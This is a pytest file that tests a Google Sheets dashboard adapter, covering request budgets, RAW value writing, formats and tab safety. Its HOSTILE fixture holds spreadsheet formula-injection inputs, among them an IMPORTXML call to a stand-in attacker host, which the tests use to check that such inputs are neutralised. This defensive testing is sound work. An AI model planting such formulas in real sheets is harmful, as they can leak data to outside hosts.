"""GoogleSheet against the fake Sheets API: requests per cycle, RAW values, formats, tab safety."""

from __future__ import annotations

import datetime as dt
import json
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest

from aggregator.adapters import sheets_format as fmt
from aggregator.adapters.sheets import METADATA_FIELDS, GoogleSheet
from aggregator.errors import ConfigError, OutputError, SheetAccessError
from aggregator.models import CellLink, CellStyle, DashboardLayout, DashboardValue, SourceKind, StyledRange
from tests.fake_sheets import FakeSheets, Recorded, Tab, token_session

SID = "1nHaTrAnG2024dEmO_sPrEaDsHeEt-iD0123"
AGENCY, GUIDE, DASH = "Báo cáo", "Hướng dẫn", "Tổng hợp tiến độ"
HOSTILE = ['=IMPORTXML("http://evil.example/x","//a")', "+1", "-1", "@x"]
AGENCY_ROWS: list[list[Any]] = [
    ["STT", "Tên cơ quan, đơn vị", "Số CBCCVC", "Ngày báo cáo"],
    [1, "UBND phường Vĩnh Hải", 85, dt.date(2024, 11, 8)],
    [2, "Trường TH Vĩnh Hải 1", "1.234", ""],
    [],
    [4, *HOSTILE[:3]],
    [5, HOSTILE[3], "khoảng 200"],
]
BODY: tuple[tuple[DashboardValue, ...], ...] = (
    ("TT", "Tên cơ quan, đơn vị", "Ghi chú"),
    (1, "UBND phường Vĩnh Hải", "Đã báo cáo"),
    (2, HOSTILE[0], HOSTILE[1]),
    (3, HOSTILE[2], HOSTILE[3]),
)


def make_layout(body: tuple[tuple[DashboardValue, ...], ...] = BODY, *, as_of: str = "11/11/2024 08:00",
                styles: tuple[StyledRange, ...] | None = None, links: tuple[CellLink, ...] | None = None,
                tab: str = DASH) -> DashboardLayout:
    default_styles = (StyledRange(0, 1, 0, 3, CellStyle.TITLE), StyledRange(2, 3, 0, 3, CellStyle.HEADER),
                      StyledRange(3, 4, 2, 3, CellStyle.REPORTED))
    default_links = (CellLink(3, 1, AGENCY, "B2"), CellLink(4, 1, AGENCY, "B5"))
    return DashboardLayout(
        tab_title=tab,
        grid=(("TIẾN ĐỘ BÁO CÁO",), ("Số liệu tính đến", "", as_of), *body),
        styles=default_styles if styles is None else styles,
        links=default_links if links is None else links,
        column_widths=(60, 200, 200),
        frozen_rows=2,
        as_of_cell=(1, 2),
    )


@pytest.fixture
def fake() -> Iterator[FakeSheets]:
    api = FakeSheets()
    api.add_spreadsheet(SID, {AGENCY: AGENCY_ROWS, GUIDE: [["Nhập số liệu vào tab Báo cáo"]]})
    with api.activate():
        yield api


def sheet(ref: str = SID, tab: str = AGENCY, **kw: Any) -> GoogleSheet:
    return GoogleSheet(ref, tab, dashboard_tab=DASH, session_factory=token_session,
                       sleep=lambda _: None, **kw)


def cycle(layout: DashboardLayout) -> str:
    gs = sheet()
    gs.read()
    return gs.write(layout)


def walk(node: Any, key: str) -> Iterator[Any]:
    if isinstance(node, dict):
        for k, v in node.items():
            if k == key:
                yield v
            yield from walk(v, key)
    elif isinstance(node, list):
        for item in node:
            yield from walk(item, key)


def writes(fake: FakeSheets, since: int = 0) -> list[Recorded]:
    return fake.calls(since, "write")


def dashboard(fake: FakeSheets) -> Any:
    return fake.books[SID].tab(DASH)


# Reading ---------------------------------------------------------------------------------------

def test_read_returns_raw_api_values_the_gid_and_all_titles(fake: FakeSheets) -> None:
    snap = sheet().read()
    assert (snap.kind, snap.ref) == (SourceKind.GOOGLE_SHEETS, SID)
    assert (snap.tab.title, snap.tab.sheet_id) == (AGENCY, 0)
    assert snap.all_titles == (AGENCY, GUIDE)
    rows = snap.tab.rows
    assert rows[1] == (1, "UBND phường Vĩnh Hải", 85, 45604)  # a number stays a number, a date is a serial
    assert rows[2] == (2, "Trường TH Vĩnh Hải 1", "1.234")  # not numericised; the trailing blank is dropped
    assert rows[3] == ()
    assert rows[4][1:] == tuple(HOSTILE[:3])


def test_read_sends_one_metadata_get_and_one_batch_get(fake: FakeSheets) -> None:
    sheet().read()
    meta, batch = fake.log
    assert (meta.endpoint, batch.endpoint) == ("metadata", "values.batchGet")
    assert meta.params == {"fields": [METADATA_FIELDS]}
    assert batch.params == {"ranges": ["'Báo cáo'"], "valueRenderOption": ["UNFORMATTED_VALUE"],
                            "dateTimeRenderOption": ["SERIAL_NUMBER"], "majorDimension": ["ROWS"]}
    assert "ranges=%27B%C3%A1o+c%C3%A1o%27" in batch.url


def test_read_fetches_the_dashboard_in_the_same_batch_get(fake: FakeSheets) -> None:
    cycle(make_layout())
    mark = fake.mark()
    sheet().read()
    assert fake.counts(mark) == (2, 0)
    assert fake.calls(mark)[1].params["ranges"] == ["'Báo cáo'", "'Tổng hợp tiến độ'"]


def test_a_spreadsheet_url_is_accepted(fake: FakeSheets) -> None:
    snap = sheet(f"https://docs.google.com/spreadsheets/d/{SID}/edit#gid=0").read()
    assert snap.ref == SID


def test_constructing_sends_nothing_and_reads_no_file(fake: FakeSheets, tmp_path: Any) -> None:
    GoogleSheet(SID, AGENCY, dashboard_tab=DASH, credentials=tmp_path / "missing.json")
    assert fake.log == []


def test_tab_name_in_another_unicode_form_or_spacing_is_found(fake: FakeSheets) -> None:
    snap = sheet(tab=" " + unicodedata.normalize("NFD", "báo  cáo")).read()
    assert snap.tab.title == AGENCY


def test_missing_tab_lists_the_tabs_and_suggests_the_closest(fake: FakeSheets) -> None:
    with pytest.raises(SheetAccessError) as caught:
        sheet(tab="Bao cao 2024").read()
    message = str(caught.value)
    assert "'Báo cáo'" in message and "'Hướng dẫn'" in message and "Did you mean 'Báo cáo'?" in message
    assert "source.tab" in message
    assert fake.counts() == (1, 0)


# Request budget ----------------------------------------------------------------------------------

def test_first_cycle_costs_two_reads_and_three_writes(fake: FakeSheets) -> None:
    url = cycle(make_layout())
    assert fake.counts() == (2, 3)
    assert [r.endpoint for r in fake.log] == ["metadata", "values.batchGet", "batchUpdate", "batchUpdate",
                                              "values.batchUpdate"]
    assert url == f"https://docs.google.com/spreadsheets/d/{SID}/edit#gid={dashboard(fake).sheet_id}"


def test_steady_cycle_without_changes_writes_nothing(fake: FakeSheets) -> None:
    cycle(make_layout())
    mark = fake.mark()
    cycle(make_layout())  # a new object, as after a restart: the signature lives in the spreadsheet
    assert fake.counts(mark) == (2, 0)


def test_steady_cycle_where_only_the_time_moved_writes_only_the_as_of_cell(fake: FakeSheets) -> None:
    cycle(make_layout())
    mark = fake.mark()
    cycle(make_layout(as_of="11/11/2024 08:10"))
    assert fake.counts(mark) == (2, 1)
    (only,) = writes(fake, mark)
    assert only.endpoint == "values.batchUpdate"
    assert only.body["data"] == [{"range": "'Tổng hợp tiến độ'!C2", "majorDimension": "ROWS",
                                  "values": [["11/11/2024 08:10"]]}]


def test_changed_values_are_one_write_and_formats_are_left_alone(fake: FakeSheets) -> None:
    cycle(make_layout())
    mark = fake.mark()
    cycle(make_layout((*BODY[:3], (3, "Trường MN Hoa Sen", "Đã báo cáo"))))
    assert fake.counts(mark) == (2, 1)
    assert writes(fake, mark)[0].endpoint == "values.batchUpdate"


def test_changed_styles_are_one_formatting_write(fake: FakeSheets) -> None:
    cycle(make_layout())
    mark = fake.mark()
    cycle(make_layout(styles=(StyledRange(3, 4, 2, 3, CellStyle.MISSING),)))
    assert fake.counts(mark) == (2, 1)
    assert writes(fake, mark)[0].endpoint == "batchUpdate"
    assert dashboard(fake).formats[(0, 0)].get("userEnteredFormat", {}).get("backgroundColorStyle") is None


def test_write_without_a_read_fetches_what_it_needs(fake: FakeSheets) -> None:
    cycle(make_layout())
    mark = fake.mark()
    sheet().write(make_layout())
    assert fake.counts(mark) == (2, 0)


# What ends up in the sheet -------------------------------------------------------------------------

def test_hostile_agency_text_is_written_raw_and_stays_text(fake: FakeSheets) -> None:
    cycle(make_layout())
    values = [r for r in writes(fake) if r.endpoint.startswith("values.")]
    assert values and all(r.body["valueInputOption"] == "RAW" for r in values)
    tab = dashboard(fake)
    assert tab.values()[4:] == [[2, HOSTILE[0], HOSTILE[1]], [3, HOSTILE[2], HOSTILE[3]]]
    assert tab.formulas == set()
    assert not any("HYPERLINK" in str(r.body) or "formulaValue" in str(r.body) for r in fake.log)


def test_a_shorter_dashboard_clears_the_stale_rows_and_columns(fake: FakeSheets) -> None:
    cycle(make_layout((*BODY, (4, "Dòng", "thừa", "cột thừa"))))
    mark = fake.mark()
    cycle(make_layout(BODY[:2]))
    (write,) = [r for r in writes(fake, mark) if r.endpoint == "values.batchUpdate"]
    assert write.body["data"][0]["range"] == "'Tổng hợp tiến độ'!A1:D7"
    assert dashboard(fake).values() == [["TIẾN ĐỘ BÁO CÁO"], ["Số liệu tính đến", "", "11/11/2024 08:00"],
                                        list(BODY[0]), list(BODY[1])]


def test_no_request_ever_writes_or_formats_an_agency_tab(fake: FakeSheets) -> None:
    before = fake.books[SID].tab(AGENCY).cells.copy()
    cycle(make_layout())
    cycle(make_layout(BODY[:2], as_of="x", styles=(StyledRange(2, 3, 0, 2, CellStyle.PROBLEM),)))
    cycle(make_layout())
    gid = dashboard(fake).sheet_id
    for request in writes(fake):
        assert set(walk(request.body, "sheetId")) <= {gid}
        ranges = [r for r in walk(request.body, "range") if isinstance(r, str)]
        assert all(r.startswith("'Tổng hợp tiến độ'!") for r in ranges)
        assert AGENCY not in request.url and "B%C3%A1o" not in request.url
        assert {"title": AGENCY} not in list(walk(request.body, "properties"))
    agency = fake.books[SID].tab(AGENCY)
    assert agency.cells == before
    assert agency.formats == {} and agency.protected == [] and agency.metadata == []


def test_links_are_cell_formats_pointing_at_the_agency_cell(fake: FakeSheets) -> None:
    cycle(make_layout())
    tab = dashboard(fake)
    link = tab.formats[(3, 1)]["userEnteredFormat"]["textFormat"]["link"]
    assert link == {"uri": "#gid=0&range=B2"}
    assert tab.values()[3][1] == "UBND phường Vĩnh Hải"


def test_a_moved_link_leaves_no_stale_link_behind(fake: FakeSheets) -> None:
    cycle(make_layout())
    cycle(make_layout(links=(CellLink(5, 1, AGENCY, "B6"),)))
    links = {k: v for k, v in dashboard(fake).formats.items() if "link" in str(v)}
    assert list(links) == [(5, 1)]


def test_widths_frozen_rows_and_palette_colours_are_applied(fake: FakeSheets) -> None:
    cycle(make_layout())
    tab = dashboard(fake)
    assert tab.widths == {0: 60, 1: 200, 2: 200}
    assert tab.grid_props == {"frozenRowCount": 2}
    header = tab.formats[(2, 0)]["userEnteredFormat"]
    assert header["backgroundColorStyle"] == {"rgbColor": fmt.rgb("#1F3864")}
    assert header["textFormat"]["bold"] is True


def test_protection_is_warning_only_and_added_once(fake: FakeSheets) -> None:
    cycle(make_layout())
    cycle(make_layout())
    (protection,) = dashboard(fake).protected
    assert protection["warningOnly"] is True
    dashboard(fake).protected.clear()  # someone removed it in the UI
    mark = fake.mark()
    cycle(make_layout())
    assert fake.counts(mark) == (2, 1) and len(dashboard(fake).protected) == 1


def test_a_deleted_dashboard_is_recreated_and_formatted(fake: FakeSheets) -> None:
    cycle(make_layout())
    book = fake.books[SID]
    book.tabs.remove(book.tab(DASH))
    mark = fake.mark()
    cycle(make_layout())
    assert fake.counts(mark) == (2, 3)
    assert dashboard(fake).values()[2] == list(BODY[0])


def test_a_grid_larger_than_the_tab_is_resized_in_the_formatting_batch(fake: FakeSheets) -> None:
    cycle(make_layout())
    dashboard(fake).rows = 8
    mark = fake.mark()
    cycle(make_layout(BODY * 2))
    (fmt_write, values_write) = writes(fake, mark)
    assert next(iter(fmt_write.body["requests"][0])) == "updateSheetProperties"
    assert values_write.status == 200 and dashboard(fake).rows == 10


def test_a_foreign_tab_with_the_dashboard_name_is_never_overwritten(fake: FakeSheets) -> None:
    fake.books[SID].tabs.append(Tab(77, DASH, cells={(0, 0): "Sổ tay của chị Lan"}))
    with pytest.raises(OutputError, match="did not write"):
        cycle(make_layout())
    assert writes(fake) == []


def test_the_agency_tab_cannot_be_the_dashboard(fake: FakeSheets) -> None:
    with pytest.raises(ConfigError):
        GoogleSheet(SID, AGENCY, dashboard_tab=" báo cáo ")


def test_a_layout_for_another_tab_is_refused(fake: FakeSheets) -> None:
    with pytest.raises(ConfigError):
        cycle(make_layout(tab="Khác"))
    assert writes(fake) == []


def test_no_request_uses_a_field_the_discovery_document_deprecates(fake: FakeSheets) -> None:
    cycle(make_layout())
    cycle(make_layout(styles=(StyledRange(2, 3, 0, 2, CellStyle.PROBLEM),)))  # a reformat
    formatting = [r for r in writes(fake) if r.endpoint == "batchUpdate"]
    assert len(formatting) == 3 and "backgroundColorStyle" in json.dumps(formatting[1].body)
    assert [r.deprecated for r in fake.log if r.deprecated] == []


def test_read_carries_the_spreadsheets_own_time_zone_and_locale() -> None:
    api = FakeSheets()
    api.add_spreadsheet(SID, {AGENCY: AGENCY_ROWS}, timezone="America/Los_Angeles", locale="en_US")
    with api.activate():
        snap = sheet().read()
    assert (snap.timezone, snap.locale) == ("America/Los_Angeles", "en_US")
    assert api.log[0].params["fields"][0].startswith("properties(timeZone,locale),")


def test_a_read_only_sheet_refuses_to_write(fake: FakeSheets) -> None:
    gs = sheet(read_only=True)
    gs.read()
    with pytest.raises(OutputError, match="read-only"):
        gs.write(make_layout())
    assert writes(fake) == []


def test_links_of_a_column_go_in_one_request_and_reach_only_their_cells(fake: FakeSheets) -> None:
    body = tuple((n, f"Đơn vị {n}", "Đã báo cáo") for n in range(1, 9))
    links = (CellLink(3, 1, AGENCY, "B2"), CellLink(6, 1, AGENCY, "B5"), CellLink(9, 1, AGENCY, "B9"),
             CellLink(4, 2, AGENCY, "C3"), CellLink(5, 2, "Không còn", "C4"))
    styles = (StyledRange(3, 10, 1, 2, CellStyle.REPORTED),)  # under the links and between them
    cycle(make_layout(body, links=links, styles=styles))
    sent = [r for call in writes(fake) for r in call.body.get("requests", []) if "updateCells" in r]
    assert len(sent) == 2  # one per column with links
    formats = dashboard(fake).formats
    text = {key: f["userEnteredFormat"].get("textFormat", {}) for key, f in formats.items()}
    assert {key: t["link"]["uri"] for key, t in text.items() if "link" in t} == {
        (3, 1): "#gid=0&range=B2", (6, 1): "#gid=0&range=B5", (9, 1): "#gid=0&range=B9", (4, 2): "#gid=0&range=C3"}
    assert {key for key, t in text.items() if t.get("underline")} == {(3, 1), (6, 1), (9, 1), (4, 2)}
    styled = [_without_link(formats[(row, 1)]["userEnteredFormat"]) for row in range(3, 10)]
    assert "backgroundColorStyle" in styled[0]  # the style under and between the links is the same everywhere
    assert len({json.dumps(f, sort_keys=True) for f in styled}) == 1


def _without_link(cell_format: dict[str, Any]) -> dict[str, Any]:
    text = {k: v for k, v in cell_format.get("textFormat", {}).items() if k not in ("link", "underline")}
    return {**cell_format, "textFormat": text}
